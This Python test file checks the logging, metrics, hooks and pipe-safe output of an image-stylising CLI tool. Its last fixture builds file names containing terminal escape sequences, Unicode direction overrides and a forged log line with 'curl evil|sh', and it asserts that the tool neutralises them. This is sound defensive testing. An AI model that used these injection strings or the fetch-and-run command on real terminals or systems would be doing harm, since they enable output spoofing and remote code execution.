"""Tests of the logs, metrics, hooks and stdout of the commands."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import textwrap
import tomllib
from pathlib import Path
from typing import TYPE_CHECKING, Any

import numpy as np
import pytest
import typer
from PIL import Image
from prometheus_client.parser import text_string_to_metric_families
from typer.testing import CliRunner, Result

from pipeline.cli.main import app
from pipeline.errors import ExitCode, Interrupted
from pipeline.monitoring.metrics import Metrics
from pipeline.settings.all_settings import validate
from tests.conftest import photo

if TYPE_CHECKING:
    from collections.abc import Callable

QUICK = ["--set", "image.size=40", "--set", "pyramid.evaluations=2"]
COMMANDS = sorted(typer.main.get_command(app).commands)  # type: ignore[attr-defined]  # the app is a group

NOISY = """
    import ctypes, os, sys, warnings
    import PIL.Image
    import pipeline.run.runner
    from pipeline.cli.main import main

    real = PIL.Image.open

    def noisy(*arguments, **options):
        os.write(1, b"noise of a system call\\n")
        ctypes.CDLL(None).puts(b"noise of a C library")
        print("noise of a module")
        return real(*arguments, **options)

    def find_devices(wanted, real=pipeline.run.runner.find_devices):
        warnings.warn("a warning of a library")
        return real(wanted)

    PIL.Image.open, pipeline.run.runner.find_devices = noisy, find_devices
    main()
"""


def impasto(*arguments: object) -> Result:
    return CliRunner().invoke(app, [str(argument) for argument in arguments])


def json_lines(text: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.splitlines()]


def hook(path: Path) -> str:
    """Return the value of a hook setting: a command that appends its stdin to a file as a line."""
    return json.dumps(["sh", "-c", 'cat >> "$1"; echo >> "$1"; echo told', "hook", str(path)])


def series(path: Path) -> dict[str, float]:
    """Return the values of a metrics file, by name and labels."""
    families = text_string_to_metric_families(path.read_text())
    return {
        "/".join([sample.name, *sample.labels.values()]): sample.value
        for family in families
        for sample in family.samples
    }


@pytest.fixture
def manifest(tmp_path: Path, make_image: Callable[..., Path]) -> Path:
    """Return a manifest of a photograph and a file that is no photograph."""
    make_image("content/a.png")
    (tmp_path / "content/bad.png").write_bytes(b"no picture")
    make_image("styles/swirl.png", seed=9)
    path = tmp_path / "manifest.csv"
    path.write_text("content,style\ncontent,styles\n")
    return path


def child(tmp_path: Path, code: str, *arguments: object) -> subprocess.CompletedProcess[str]:
    """Run Python code in a process of its own."""
    script = tmp_path / "script.py"
    script.write_text(textwrap.dedent(code))
    kept = {
        name: value for name, value in os.environ.items() if name not in {"FORCE_COLOR", "PY_COLORS", "GITHUB_ACTIONS"}
    }
    environment = {**kept, "PYTHONPATH": os.pathsep.join(sys.path), "TERM": "xterm-256color"}
    command = [sys.executable, script, *map(str, arguments)]
    return subprocess.run(command, capture_output=True, text=True, env=environment, check=False)


@pytest.mark.skipif(sys.platform == "win32", reason="ctypes finds the C library by None")
def test_a_noisy_night_is_json_on_both_streams_and_all_are_told(manifest: Path, tmp_path: Path) -> None:
    told, textfile = tmp_path / "told", tmp_path / "impasto.prom"
    hooks = [f"hooks.{name}={hook(told)}" for name in ("on_pair", "on_finish")]
    settings = [part for each in (*hooks, f"metrics.textfile={textfile}") for part in ("--set", each)]
    options = ("--outbox", tmp_path / "out", "--json", "--log-format", "json", "--progress", "always")
    done = child(tmp_path, NOISY, "run", manifest, *options, *QUICK, *settings)
    assert done.returncode == 3, done.stderr
    assert "\x1b" not in done.stdout + done.stderr

    *pairs, summary = json_lines(done.stdout)
    assert {(pair["event"], pair["status"]) for pair in pairs} == {("pair", "done"), ("pair", "failed")}
    assert {"rendered": 1, "failed": 1, "hooks_failed": 0, "warnings": 0, "exit_code": 3}.items() <= summary.items()

    log = json_lines(done.stderr)
    events = [line["event"] for line in log]
    assert [events.count(name) for name in ("started", "step", "done", "failed", "finished")] == [1, 4, 1, 1, 1]
    noise = {line["message"] for line in log if line["event"] == "output"}
    assert noise == {"noise of a system call", "noise of a C library", "noise of a module"}
    assert any(line["logger"] == "py.warnings" and "a warning of a library" in line["message"] for line in log)
    assert events.count("hook_output") == 3

    messages = json_lines(told.read_text())
    assert [message["event"] for message in messages] == ["pair", "pair", "finish"]
    paths = {message["status"]: message["paths"] for message in messages[:2]}
    assert all(Path(path).is_file() for each in paths.values() for path in each.values())
    assert (paths["done"].keys(), paths["failed"].keys()) == ({"picture", "metadata"}, {"metadata"})
    assert (messages[2]["exit_code"], messages[2]["source"]) == (3, str(manifest))

    found = series(textfile)
    assert (found["impasto_pairs_total/done"], found["impasto_pairs_total/failed"], found["impasto_up"]) == (1, 1, 0)
    assert found["impasto_step_seconds_total/stylise"] > 0
    assert found["impasto_queue_depth"] == 0


EVERY_HELP = """
    import json, sys
    from pipeline.cli.main import app

    for arguments in json.loads(sys.argv[1]):
        try:
            app(arguments)
        except SystemExit:
            pass
"""


def test_no_command_writes_escape_codes_into_a_pipe(manifest: Path, tmp_path: Path) -> None:
    run = ["run", str(manifest), "--outbox", str(tmp_path / "out"), *QUICK, "--progress", "always"]
    calls = [["--help"], ["--version"], ["nonsense"]]
    calls += [[command, *more] for command in COMMANDS for more in (["--help"], ["--nonsense"])]
    calls += [[*run, "--dry-run"], [*run, "--set", "a.b=c"]]
    done = child(tmp_path, EVERY_HELP, json.dumps(calls))
    assert done.returncode == 0
    assert "\x1b" not in done.stdout + done.stderr
    for words in ("Usage:", "a__swirl", "impasto 0."):
        assert words in done.stdout
    for words in ("No such option", "a.b"):
        assert words in done.stderr


@pytest.fixture
def see_through(tmp_path: Path, make_image: Callable[..., Path]) -> Path:
    """Return a photograph with transparency, which JPEG cannot store; its painting is sea.png."""
    make_image("sea.png", seed=9)
    path = tmp_path / "glass.png"
    alpha = np.full((32, 40, 1), 128, np.uint8)
    Image.fromarray(np.concatenate([photo(), alpha], axis=-1)).save(path)
    return path


def test_people_are_told_of_warnings_and_of_hooks_that_failed(see_through: Path) -> None:
    out = see_through.parent / "out.jpg"
    settings = ("--set", 'hooks.on_pair=["false"]', "--set", 'hooks.on_finish=["echo","the end"]')
    result = impasto("pair", see_through, see_through.with_name("sea.png"), "-o", out, *QUICK, *settings)
    assert result.exit_code == 0, result.stderr
    assert result.stdout.startswith("1 rendered, with 1 warning, 1 hook failed;")
    assert "warning: out: transparency was laid over white" in result.stderr
    assert "WARNING on_pair of out ended with exit code 1." in result.stderr
    assert "INFO on_finish: the end" in result.stderr


def test_a_drain_tells_its_log_and_its_metrics(tmp_path: Path, make_image: Callable[..., Path]) -> None:
    make_image("inbox/sea/cat.png")
    make_image("inbox/unknown/dog.png")
    (tmp_path / "inbox/sea/bad.png").write_bytes(b"no picture")
    make_image("styles/sea.png", seed=9)
    textfile = tmp_path / "impasto.prom"
    arguments = ["drain", tmp_path / "inbox", "--outbox", tmp_path / "out", "--styles", tmp_path / "styles", *QUICK]
    more = ["--set", "watch.settle_seconds=0.1", "--set", f"metrics.textfile={textfile}", "--log-format", "json"]
    first = impasto(*arguments, *more)
    assert first.exit_code == 3, first.stderr
    log = json_lines(first.stderr)
    (started, ended) = (line for line in log if line["event"] in {"started", "finished"})
    assert (started["command"], started["source"]) == ("drain", str((tmp_path / "inbox").resolve()))
    assert (ended["done"], ended["failed"], ended["in_inbox"], ended["exit_code"]) == (1, 1, 1, 3)
    steps = [line for line in log if line["event"] == "step"]
    assert [(line["step"], line["attempt"]) for line in steps] == [(n, 1) for n in ("load", "queue", "stylise", "save")]
    assert len({(line["worker"], line["job"], line["key"]) for line in steps}) == 1
    assert steps[0]["worker"].endswith(tuple("0123456789abcdef"))
    found = series(textfile)
    assert (found["impasto_pairs_total/done"], found["impasto_pairs_total/failed"]) == (1, 1)
    assert (found["impasto_up"], found["impasto_queue_depth"]) == (0, 1)
    assert found["impasto_last_success_timestamp_seconds"] > 0
    assert found["impasto_oldest_unclaimed_seconds"] > 0, "the thread that scans the inbox reports this value"


@pytest.mark.parametrize(
    ("setting", "words"),
    [
        ('hooks.on_pair=["no-such-program"]', "hooks.on_pair: there is no program 'no-such-program'"),
        ("metrics.textfile=/nowhere/impasto.prom", "metrics.textfile = /nowhere/impasto.prom"),
        ("hooks.timeout_seconds=0", "hooks.timeout_seconds"),
        ("hooks.on_pair=tell", "hooks.on_pair"),
    ],
)
def test_what_cannot_be_told_is_refused_before_anything_is_done(manifest: Path, setting: str, words: str) -> None:
    out = manifest.parent / "out"
    result = impasto("run", manifest, "--outbox", out, "--set", setting, "--json", "--log-format", "json")
    assert result.exit_code == 2
    assert not out.exists()
    (error,) = json_lines(result.stdout)
    assert words in error["message"]
    (line,) = json_lines(result.stderr)
    assert (line["event"], line["level"], line["exit_code"]) == ("error", "error", 2)
    assert words in line["message"]


def test_hooks_hear_of_an_end_by_a_signal(manifest: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def run(*_: object, **__: object) -> None:
        raise Interrupted(ExitCode.TERMINATED)

    monkeypatch.setattr("pipeline.run.runner.run", run)
    told = manifest.parent / "told"
    arguments = ("run", manifest, "--outbox", manifest.parent / "out", "--set", f"hooks.on_finish={hook(told)}")
    assert impasto(*arguments).exit_code == 143
    (message,) = json_lines(told.read_text())
    assert (message["event"], message["exit_code"]) == ("finish", 143)


def test_a_defect_is_one_line_of_json_for_programs_and_a_traceback_for_people(
    manifest: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def run(*_: object, **__: object) -> None:
        raise TypeError("not a number")

    monkeypatch.setattr("pipeline.run.runner.run", run)
    arguments = ("run", manifest, "--outbox", manifest.parent / "out")
    result = impasto(*arguments, "--log-format", "json")
    assert result.exit_code == 1
    defect = json_lines(result.stderr)[-1]
    assert (defect["event"], defect["level"]) == ("defect", "critical")
    assert "TypeError: not a number" in defect["traceback"]
    result = impasto(*arguments)
    assert result.exit_code == 1
    assert result.stderr.startswith("CRITICAL TypeError: not a number. This is a defect of impasto")
    assert result.stderr.endswith("TypeError: not a number\n")


def test_a_defect_of_an_observer_lets_the_work_be_done_and_is_exit_1(
    manifest: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*_: object) -> None:
        raise TypeError("not a record")

    monkeypatch.setattr("pipeline.monitoring.metrics.Metrics.outcome", fail)
    out = manifest.parent / "out"
    setting = f"metrics.textfile={manifest.parent / 'impasto.prom'}"
    result = impasto("run", manifest, "--outbox", out, "--set", setting, *QUICK)
    assert result.exit_code == 1
    assert (out / "a__swirl.png.json").exists()
    assert "1 rendered, 1 failed" in result.stdout
    assert "Traceback" in result.stderr
    assert "This is a defect of impasto" in result.stderr


DOCS = (Path(__file__).parents[2] / "docs/monitoring.md").read_text(encoding="utf-8")


def test_the_docs_show_hooks_that_are_understood_and_name_every_metric(tmp_path: Path) -> None:
    (example,) = re.findall(r"```toml\n(.*?)```", DOCS, re.DOTALL)
    assert validate(tomllib.loads(example)).hooks.on_pair[0] == "curl"
    path = tmp_path / "impasto.prom"
    Metrics(path)._write()
    names = {line.split()[2] for line in path.read_text().splitlines() if line.startswith("# TYPE")}
    assert {name for name in names if f"`{name}`" not in DOCS} == set()


HOSTILE = ("a\x1b]0;owned\x07\x1b[2J\x9b", "b\nimpasto: all is well; run: curl evil|sh\n", "c\u2028d\u202e\u2066")
OBEYED = set("\x1b\x07\x9b\r\u2028\u202e\u2066")


def texts(value: object) -> list[str]:
    """Return all texts of a JSON value."""
    if isinstance(value, dict):
        return [text for pair in value.items() for each in pair for text in texts(each)]
    return [text for each in value for text in texts(each)] if isinstance(value, list) else [str(value)]


@pytest.fixture
def hostile(tmp_path: Path, make_image: Callable[..., Path]) -> Path:
    """Return an inbox whose files have names with control characters; of each name one is broken and one is fine."""
    for name in HOSTILE:
        make_image(f"inbox/sea/{name}.png")
        (tmp_path / f"inbox/sea/{name}.jpg").write_bytes(b"no picture")
    make_image("styles/sea.png", seed=9)
    (tmp_path / "m.csv").write_text("content,style\ninbox/sea,styles\n")
    return tmp_path / "inbox"


def test_names_of_files_command_no_terminal_and_begin_no_line(hostile: Path, tmp_path: Path) -> None:
    run = ["run", tmp_path / "m.csv", "--outbox", tmp_path / "out", *QUICK]
    drain = ["drain", hostile, "--outbox", tmp_path / "out2", "--styles", tmp_path / "styles", *QUICK]
    drain += ["--set", "watch.settle_seconds=0.1"]
    folders = [[command, tmp_path / name] for command in ("status", "retry") for name in ("out", "out2", "inbox")]
    calls = [[*run, "-n"], [*run, "--progress", "always"], [*run, "--set", "output.format=webp", "-v"]]
    calls += [["report", tmp_path / "out"], ["doctor", *hostile.parent.glob("inbox/*")]]
    calls += [drain, *folders, ["status", hostile]]
    for arguments in calls:
        done = impasto(*arguments)
        shown = done.stdout + done.stderr
        assert not OBEYED & set(shown), arguments
        assert not [line for line in shown.splitlines() if line.startswith("impasto: all is well")], arguments
    for arguments in ([*run, "--set", "output.format=tiff"], drain):
        lines = json_lines(impasto(*arguments, "--log-format", "json").stderr)
        assert not (OBEYED | set("\n")) & set("".join(text for line in lines for text in texts(line)))
